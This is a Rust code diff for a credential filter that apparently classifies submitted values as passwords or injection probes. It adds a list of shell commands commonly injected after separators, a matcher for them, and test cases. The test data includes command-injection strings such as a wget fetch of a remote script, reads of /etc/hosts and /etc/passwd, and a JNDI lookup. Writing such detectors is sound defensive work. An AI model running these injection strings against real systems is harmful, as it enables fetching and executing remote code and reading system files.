@@ -650,8 +650,8 @@ pub fn is_password_like(value: &[u8]) -> bool {
 
 /// True when a lowercased value is an injection probe rather than something a person chose as a
 /// password: SQL that breaks out of a quoted string (`' or ''='`, `' union `), script, path
-/// traversal, shell or scanner markers. Words alone (`union select` typed after a password) are
-/// not enough.
+/// traversal, a shell command after a command separator (`admin';ls #`, `;wget http://…`), shell
+/// or scanner markers. Words alone (`union select` typed after a password) are not enough.
 pub fn is_attack_payload(lower: &[u8]) -> bool {
     const MARKERS: &[&str] = &[
         "' or ",
@@ -678,6 +678,36 @@ pub fn is_attack_payload(lower: &[u8]) -> bool {
     MARKERS
         .iter()
         .any(|m| memchr::memmem::find(lower, m.as_bytes()).is_some())
+        || runs_shell_command(lower)
+}
+
+/// Commands that exploit kits run after a separator they inject into a parameter.
+const INJECTED_COMMANDS: &[&str] = &[
+    "ls", "id", "cat", "wget", "curl", "uname", "sh", "bash", "busybox", "nc", "echo", "ping",
+    "sleep", "cd", "chmod", "rm", "tftp", "whoami",
+];
+
+/// Whether a lowercased value runs a shell command after a command separator (`;`, `|`, `&&` or
+/// a newline): `;ls`, `| cat /etc/hosts`, `&& wget http://…`. The command must be a whole word,
+/// so `abc;cdef` and `x|identity` are not commands.
+fn runs_shell_command(lower: &[u8]) -> bool {
+    lower.iter().enumerate().any(|(i, &b)| {
+        if !matches!(b, b';' | b'|' | b'&' | b'\n')
+            || (b == b'&' && lower.get(i + 1) != Some(&b'&'))
+        {
+            return false;
+        }
+        let rest = &lower[i + 1..];
+        let rest = rest.strip_prefix(b"&").unwrap_or(rest);
+        let start = rest.iter().position(|&c| c != b' ').unwrap_or(rest.len());
+        let rest = &rest[start..];
+        INJECTED_COMMANDS.iter().any(|cmd| {
+            rest.starts_with(cmd.as_bytes())
+                && !rest
+                    .get(cmd.len())
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
+        })
+    })
 }
 
 /// Whether `value` holds a printf `%s` that is not the start of a word (`'%s'`, `%s%s`), as
@@ -942,6 +972,11 @@ mod tests {
             "<script>alert(1)</script>",
             "../../../../etc/passwd",
             "${jndi:ldap://x/a}",
+            "x';ls #",
+            ";wget http://203.0.113.7/m.sh",
+            "1 | cat /etc/hosts",
+            "a&&id",
+            "q\nuname -a",
         ] {
             assert!(!is_password_like(probe.as_bytes()), "{probe}");
         }
@@ -950,6 +985,10 @@ mod tests {
             "O'Brien-1987",
             "a|b|c",
             "Blue Harbor Lantern 77",
+            "abc;cdef",
+            "x|identity;lsx",
+            "Tom&Jerry&Co",
+            "rock&&roll99",
         ] {
             assert!(is_password_like(password.as_bytes()), "{password}");
         }
